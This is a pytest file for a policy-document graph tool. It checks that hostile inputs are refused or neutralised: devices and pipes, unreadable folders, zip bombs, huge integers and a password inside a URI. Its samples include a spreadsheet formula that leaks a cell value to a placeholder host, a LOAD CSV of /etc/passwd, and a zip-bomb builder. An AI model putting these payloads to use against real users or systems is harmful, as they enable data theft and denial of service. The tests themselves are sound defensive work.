"""Issue 16: inputs that once hung, crashed or were skipped silently now give one clear line and exit 1."""

import json
import os
import shutil
import subprocess
import sys

import pytest
from click.testing import CliRunner
from conftest import PLAN_2018, PLAN_2023, ROOT

from cli import cli


# -- item 7: not a regular file ----------------------------------------------------------------------
def test_a_device_is_refused_before_reading(run):
    result = run("load", "/dev/zero")  # once: read to a MemoryError
    assert result.exit_code == 1
    assert "error: /dev/zero: is a device, not a regular file; give a document file or a folder" in result.output
    assert not run.store.exists()


def test_a_named_pipe_is_refused_without_blocking(run, tmp_path):
    fifo = tmp_path / "plan.txt"
    os.mkfifo(fifo)  # once: open() waited for a writer forever
    result = run("load", fifo)
    assert result.exit_code == 1
    assert f"error: {fifo}: is a named pipe, not a regular file; give a document file or a folder" in result.output


def test_a_pipe_inside_a_folder_is_reported_and_the_plan_beside_it_loads_with_skip_bad(run, tmp_path):
    shutil.copy(PLAN_2018, tmp_path / PLAN_2018.name)
    os.mkfifo(tmp_path / "stuck.txt")
    result = run("load", "--skip-bad", tmp_path)
    assert result.exit_code == 1
    assert "stuck.txt: is a named pipe" in result.output
    assert result.output.startswith("武政〔2018〕50号 (wuhan-2018-internationalisation-plan.txt; inline_clauses): added")


# -- item 2: an unreadable subfolder -----------------------------------------------------------------
def test_an_unreadable_subfolder_is_reported_not_skipped(tmp_path):
    shutil.copy(PLAN_2018, tmp_path / PLAN_2018.name)
    sub = tmp_path / "sub"
    sub.mkdir()
    shutil.copy(PLAN_2023, sub / PLAN_2023.name)
    sub.chmod(0)
    command = [sys.executable, "-m", "agencygraph.cli", "--store", str(tmp_path / "store.json"), "load", str(tmp_path)]
    if os.geteuid() == 0:  # root reads a mode-000 folder: drop the capabilities that let it
        if not shutil.which("capsh"):
            pytest.fail("running as root needs capsh (libcap2-bin) to make a folder unreadable")
        command = ["capsh", "--drop=cap_dac_override,cap_dac_read_search", "--", "-c",
                   " ".join(f"'{c}'" for c in command)]
    try:
        done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=120)
    finally:
        sub.chmod(0o755)
    assert done.returncode == 1, done.stdout + done.stderr
    assert f"error: {sub}: folder cannot be read (Permission denied)" in done.stdout
    assert "Error: 1 file(s) could not be loaded; nothing was stored" in done.stderr
    assert not (tmp_path / "store.json").exists()


# -- items 3, 4: the read-only Neo4j console -----------------------------------------------------------
from cypher_fixtures import neo4j_env, neo4j_server  # noqa: E402,F401


def test_read_only_console_refuses_terminate_load_csv_and_acting_procedures(neo4j_server):  # noqa: F811
    """A transaction held open by another session survives the console's TERMINATE; a LOAD CSV of a URL never
    reaches the (real, local) HTTP server it names; SHOW listings and read-only procedures still run."""
    import http.server
    import threading

    from graph.neo4j_conn import connect

    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"a,b\n1,2\n")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/units.csv"
    driver = connect(neo4j_server)
    held = driver.session()
    tx = held.begin_transaction(metadata={"issue16": "held"})
    tx.run("RETURN 1").consume()
    try:
        [tx_id] = [r["id"] for r in driver.execute_query(
            "SHOW TRANSACTIONS YIELD transactionId AS id, metaData WHERE metaData.issue16 = 'held' RETURN id",
            routing_="r").records]
        env = neo4j_env(neo4j_server)
        statements = [f"TERMINATE TRANSACTIONS '{tx_id}'",
                      f"SHOW TRANSACTIONS YIELD transactionId AS id WHERE id = '{tx_id}' TERMINATE TRANSACTIONS id",
                      f"LOAD CSV FROM '{url}' AS row RETURN row",
                      "LOAD CSV WITH HEADERS FROM 'file:///etc/passwd' AS row RETURN count(row)",
                      "CALL dbms.killConnections(['bolt-1'])",
                      "CALL db.clearQueryCaches()",
                      "CALL tx.setMetaData({a: 1})"]
        for statement in statements:
            run = CliRunner().invoke(cli, ["cypher", "-e", statement], env=env)
            assert run.exit_code == 1, (statement, run.output)
        outputs = [CliRunner().invoke(cli, ["cypher", "-e", s], env=env).output for s in statements]
        assert outputs[:3] == [
            "Error: refused: TERMINATE stops other sessions' work, and the console is read-only; start it with "
            "--write to allow it\n"] * 2 + [
            "Error: refused: LOAD CSV makes the server read a file or fetch a URL, and the console is read-only; "
            "start it with --write to allow it\n"]
        assert outputs[4] == ("Error: refused: procedure dbms.killConnections is not known to be read-only, and the "
                              "console is read-only; start it with --write to allow it\n")
        assert hits == []
        assert tx.run("RETURN 2 AS two").single()["two"] == 2  # still alive: nobody terminated it
        allowed = CliRunner().invoke(cli, ["cypher", "--format", "csv", "-e",
                                           f"SHOW TRANSACTIONS YIELD transactionId AS id WHERE id = '{tx_id}' "
                                           f"RETURN count(id) AS n; CALL db.labels() YIELD label "
                                           f"WHERE label = 'Unit' RETURN label"], env=env)
        assert allowed.exit_code == 0, allowed.output
        assert allowed.output.startswith("n\n1\nlabel\n")  # the held transaction, listed; labels, listed
    finally:
        tx.close()
        held.close()
        driver.close()
        server.shutdown()


# -- items 9, 10: exports and CSV output -------------------------------------------------------------
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1)'


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    """The 2023 plan with a form feed inside task 1 (pdftotext writes one at each page break) and a formula
    opening task 2's text; everything else as bundled."""
    folder = tmp_path_factory.mktemp("hostile")
    text = PLAN_2023.read_text(encoding="utf-8")
    text = text.replace("创新科技项目组织方式,", "创新科技项目组织方式,\f", 1).replace("\t2\t完善", f"\t2\t{FORMULA}完善", 1)
    plan = folder / "plan.txt"
    plan.write_text(text, encoding="utf-8")
    store = folder / "store.json"
    result = CliRunner().invoke(cli, ["--store", str(store), "load", str(plan)])
    assert result.exit_code == 0, result.output
    tasks = json.loads(CliRunner().invoke(cli, ["--store", str(store), "tasks", "--format", "json"]).output)
    assert "\f" in tasks[0]["text"] and tasks[1]["text"].startswith(FORMULA)  # the loader keeps both as written
    return store, tasks


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_exports_parse_with_a_form_feed_in_a_task(hostile_store, tmp_path, fmt):
    import xml.etree.ElementTree as ET

    import networkx as nx

    store, tasks = hostile_store
    out = tmp_path / f"graph.{fmt}"
    result = CliRunner().invoke(cli, ["--store", str(store), "export", "--format", fmt, str(out)])
    assert result.exit_code == 0, result.output
    ET.parse(out)  # once: GraphML raised mid-write (a broken file left), GEXF wrote XML that did not parse
    g = (nx.read_graphml if fmt == "graphml" else nx.read_gexf)(out)
    texts = {a.get("text") for _n, a in g.nodes(data=True) if a.get("node_type") == "Task"}
    assert tasks[0]["text"].replace("\f", "") in texts  # the form feed left out, nothing else changed
    # 90 rows, rows 43 and 45 kept as parents of two parts each: 90 + 4 task nodes, as without the form feed
    assert len([n for n, a in g.nodes(data=True) if a.get("node_type") == "Task"]) == 94
    assert sorted(p.name for p in tmp_path.iterdir()) == [out.name]  # no temporary file left beside it


def test_export_replaces_an_earlier_file_whole(hostile_store, tmp_path):
    store, _tasks = hostile_store
    out = tmp_path / "graph.graphml"
    out.write_text("earlier export", encoding="utf-8")
    out.chmod(0o644)
    result = CliRunner().invoke(cli, ["--store", str(store), "export", "--format", "graphml", str(out)])
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8").startswith("<?xml")
    assert sorted(p.name for p in tmp_path.iterdir()) == [out.name]
    assert out.stat().st_mode & 0o777 == 0o666 & ~_umask()


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_csv_cells_that_look_like_formulas_get_a_quote(hostile_store):
    import csv
    import io

    store, tasks = hostile_store
    output = CliRunner().invoke(cli, ["--store", str(store), "tasks", "--format", "csv"]).output
    rows = list(csv.DictReader(io.StringIO(output)))
    assert rows[1]["text"] == "'" + tasks[1]["text"]  # shown as text by a spreadsheet, not run
    assert rows[0]["text"] == tasks[0]["text"]  # not a formula: as it is, form feed and all
    assert rows[1]["line"] == str(tasks[1]["line"])  # numbers untouched


def test_matrix_and_console_csv_are_neutralised_too(tmp_path):
    """A unit written '+市科技局' (a stray plus sign in a unit list) reaches the matrix and the console's CSV
    with a quote in front."""
    text = PLAN_2023.read_text(encoding="utf-8").replace("\t市科技局\t市教育局\t", "\t+市科技局\t市教育局\t", 1)
    plan = tmp_path / "plan.txt"
    plan.write_text(text, encoding="utf-8")
    store = tmp_path / "store.json"
    assert CliRunner().invoke(cli, ["--store", str(store), "load", str(plan)]).exit_code == 0
    units = CliRunner().invoke(cli, ["--store", str(store), "units", "--format", "json"]).output
    [odd] = [u["name"] for u in json.loads(units) if u["name"].startswith("+")]
    matrix = CliRunner().invoke(cli, ["--store", str(store), "coowners", "--matrix"]).output
    header, *lines = matrix.splitlines()
    assert f",'{odd}," in header + "," and any(line.startswith(f"'{odd},") for line in lines)
    console = CliRunner().invoke(cli, ["--store", str(store), "cypher", "--format", "csv", "-e",
                                       f"MATCH (u:Unit) WHERE u.name = '{odd}' RETURN u.name AS name"])
    assert console.output == f"name\n'{odd}\n"


# -- items 11, 12: leaks and rough errors --------------------------------------------------------------
def _dead_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]  # closed again: nothing listens there


def test_a_password_inside_neo4j_uri_is_never_printed(tmp_path):
    port = _dead_port()
    env = {"NEO4J_URI": f"bolt://analyst:Pa55-in-uri@127.0.0.1:{port}", "NEO4J_PASSWORD": "",
           "AGENCYGRAPH_BACKEND": "neo4j"}
    for args in (["docs"], ["cypher", "-e", "RETURN 1"], ["load", "--dry-run", str(PLAN_2018)]):
        result = CliRunner().invoke(cli, ["--store", str(tmp_path / "s.json"), *args], env=env)
        assert "Pa55-in-uri" not in result.output, args
    result = CliRunner().invoke(cli, ["docs"], env=env)
    assert result.exit_code == 1
    assert result.output == (f"Error: cannot reach Neo4j at bolt://127.0.0.1:{port} (NEO4J_URI): ServiceUnavailable; "
                             f'start a local one with: eval "$(agencygraph neo4j start)"\n')


def test_an_http_address_is_one_line_not_a_traceback():
    result = CliRunner().invoke(cli, ["docs"], env={"NEO4J_URI": "http://u:secret@127.0.0.1:7474",
                                                    "AGENCYGRAPH_BACKEND": "neo4j"})
    assert result.exit_code == 1 and result.exception.__class__ is SystemExit  # once: ModuleNotFoundError
    assert result.output == (
        "Error: NEO4J_URI='http://127.0.0.1:7474' is not a Neo4j Bolt address: use one of bolt://, bolt+s://, "
        "bolt+ssc://, neo4j://, neo4j+s://, neo4j+ssc:// (e.g. bolt://127.0.0.1:7687), or start a local one with: "
        'eval "$(agencygraph neo4j start)"\n')


def test_a_huge_integer_parameter_is_one_line(neo4j_server):  # noqa: F811
    env = neo4j_env(neo4j_server)
    named = CliRunner().invoke(cli, ["query", "top_pairs", "--param", "limit=99999999999999999999999"], env=env)
    assert named.exit_code == 1  # once: OverflowError from the driver's packer
    assert named.output == ("Error: query top_pairs: parameter limit = 99999999999999999999999 is outside the 64-bit "
                            "integers Cypher holds (-9223372036854775808 to 9223372036854775807)\n")
    console = CliRunner().invoke(cli, ["cypher"], env=env, input=":param n => 99999999999999999999999\nRETURN $n AS n;\n")
    assert console.exit_code == 1
    assert console.output.splitlines()[-1] == ("Error: parameter $n = 99999999999999999999999 is outside the 64-bit "
                                               "integers Cypher holds (-9223372036854775808 to 9223372036854775807)")


# -- item 13 -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_bom_loads_like_utf8(run, tmp_path, encoding):
    plan = tmp_path / "plan.txt"
    plan.write_bytes(PLAN_2018.read_text(encoding="utf-8").encode(encoding))  # no BOM: once "binary data"
    result = run("load", plan)
    assert result.exit_code == 0, result.output
    assert result.output.startswith("武政〔2018〕50号 (plan.txt; inline_clauses): added; 5 domains, 17 numbered tasks "
                                    "(18 with sub-parts split), 28 lead edges, 95 assist edges")


def test_real_binary_with_nul_bytes_is_still_refused(run, tmp_path):
    blob = tmp_path / "plan.txt"
    blob.write_bytes(bytes(range(256)) * 64)  # NUL bytes on both sides of the pairs, control characters
    result = run("load", blob)
    assert result.exit_code == 1
    assert f"error: {blob}:1: binary data (NUL byte), not a text document" in result.output


def test_a_damaged_spreadsheet_message_reads_well(run, tmp_path):
    sheet = tmp_path / "plan.xlsx"
    sheet.write_bytes(b"PK\x03\x04" + b"\x00" * 200)
    result = run("load", sheet)
    assert result.exit_code == 1
    assert f"error: {sheet}: cannot be read as a spreadsheet (.xlsx) (" in result.output  # once: "a readable a"


# -- item 6: archives that unpack to far more than any real document --------------------------------------
def _bomb(path, part: str, row: str, mib: int = 900):
    """A real zip whose one big part is ``row`` repeated to ``mib`` MiB (deflated about 140-fold: below the
    1000-fold zip-bomb ratio, so only the size bound can catch it)."""
    import zipfile

    block = "".join(row.format(i % 7, i % 13) for i in range(3000)).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open(part, "w", force_zip64=True) as fh:
            for _ in range((mib << 20) // len(block)):
                fh.write(block)
    return path


@pytest.mark.parametrize("name, part, row, what", [
    ("plan.docx", "word/document.xml", "<w:p><w:r><w:t>第{}条{} 市科技局牵头,市教育局配合。</w:t></w:r></w:p>",
     "a Word document (.docx)"),
    ("plan.xlsx", "xl/worksheets/sheet1.xml", '<row r="{}"><c t="inlineStr"><is><t>市科技局{}</t></is></c></row>',
     "a spreadsheet (.xlsx)"),
])
def test_an_archive_unpacking_to_900_mib_is_refused_fast_in_little_memory(tmp_path, name, part, row, what):
    import time

    bomb = _bomb(tmp_path / name, part, row)
    assert bomb.stat().st_size < 10 << 20  # once: 5.3 GB of memory (.docx), 301 s (.xlsx)
    # the child reports its own peak (VmHWM belongs to the process image: ru_maxrss would count the pytest
    # process it was forked from)
    probe = ("import runpy, sys\nsys.argv = ['agencygraph'] + sys.argv[1:]\ntry:\n"
             "    runpy.run_module('agencygraph.cli', run_name='__main__')\nfinally:\n"
             "    hwm = [l for l in open('/proc/self/status') if l.startswith('VmHWM')][0].split()[1]\n"
             "    sys.stderr.write(f'VmHWM {hwm}\\n')\n")
    start = time.monotonic()
    done = subprocess.run([sys.executable, "-c", probe, "--store", str(tmp_path / "s.json"), "load", str(bomb)],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)
    elapsed = time.monotonic() - start
    out = done.stdout
    assert done.returncode == 1, done.stderr
    peak_kb = int(done.stderr.split("VmHWM ")[1].split()[0])
    assert peak_kb < 300 << 10  # about 75 MB here (the interpreter and its imports)
    limit = 32 if name.endswith(".docx") else 256  # a spreadsheet is streamed: it may unpack to more
    assert out.startswith(f"error: {bomb}: is {what} that unpacks to 900 MiB, more than the {limit} MiB it may "
                          f"unpack to (a zip bomb?); refused.")
    assert elapsed < 20  # about 1 s here; generous for a loaded machine


# -- item 8: the embedded engine and unconnected patterns ---------------------------------------------------
def test_unconnected_patterns_beyond_a_million_combinations_are_refused(run):
    """The bundled store holds 297 nodes: three unconnected (a), (b), (c) make 297³ = 26,198,073 combinations,
    which grand-cypher would build in memory (6.5 GB) before counting; two make 88,209 and still run."""
    assert run("load", PLAN_2018, PLAN_2023).exit_code == 0
    refused = run("cypher", "-e", "MATCH (a) MATCH (b) MATCH () RETURN count(a)")
    assert refused.exit_code == 1
    assert refused.output == (
        "Error: the MATCH pattern has 3 unconnected parts: up to 297 ((a)) × 297 ((b)) × 297 (()) = 26,198,073 "
        "combinations, more than the 1,000,000 the embedded engine holds in memory; connect the parts with a "
        "relationship, or use --backend neo4j\n")
    allowed = run("cypher", "--format", "csv", "-e", "MATCH (d:Document) MATCH (g:Group) RETURN count(g) AS n")
    assert allowed.exit_code == 0, allowed.output
    assert allowed.output == "n\n12\n"  # 2 documents × 6 groups
    joined = run("cypher", "--format", "csv", "-e",
                 "MATCH (u:Unit)-[:LEADS]->(t:Task) MATCH (t)<-[:ASSISTS]-(v:Unit) MATCH (w:Unit) "
                 "WHERE w.name = '市科技局' RETURN count(w) AS n")
    assert joined.exit_code == 0, joined.output  # one connected part (u, t, v) and (w): 76 × 76 at most


# -- the input classes, property-based ----------------------------------------------------------------------
from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

HOSTILE_TEXT = st.text(alphabet=st.one_of(st.characters(max_codepoint=0x1F), st.sampled_from("=+-@'\"\f市科技局,;")),
                       max_size=30)


@settings(max_examples=200, deadline=None)
@given(HOSTILE_TEXT)
def test_any_text_survives_xml_and_no_csv_cell_opens_like_a_formula(text):
    import csv
    import io
    import xml.etree.ElementTree as ET

    from graph.formatting import FORMULA_STARTS, render
    from viz.export import xml_safe

    ET.fromstring(f"<t a='{xml_safe(text).replace(chr(39), '')}'>{xml_safe(text).replace('<', '').replace('&', '')}</t>")
    [row] = list(csv.DictReader(io.StringIO(render([{"text": text, "n": 1}], "csv"))))
    assert not row["text"].startswith(FORMULA_STARTS)
    assert row["text"].lstrip("'") == text.lstrip("'") or row["text"] == "'" + text


# -- item 5: a long line without the body and roster keywords --------------------------------------------------
def test_twenty_thousand_dashes_load_in_seconds(tmp_path):
    """bench/loader_hostile.py's "20k dashes" case: the body/roster patterns' lazy prefixes were tried at every
    position of the 120,000-character line (4,000 repeats took 15.7 s, 20,000 over 290 s)."""
    import time

    plan = tmp_path / "plan.txt"
    plan.write_text("某府〔2024〕1号\n1.做一件事。(市财政局牵头,市教育局配合)\n2.任务" + "——市财政局" * 20_000,
                    encoding="utf-8")
    start = time.monotonic()
    result = CliRunner().invoke(cli, ["--store", str(tmp_path / "s.json"), "load", "--dry-run", str(plan)])
    assert result.exit_code == 0, result.output
    assert time.monotonic() - start < 15  # 0.6 s here
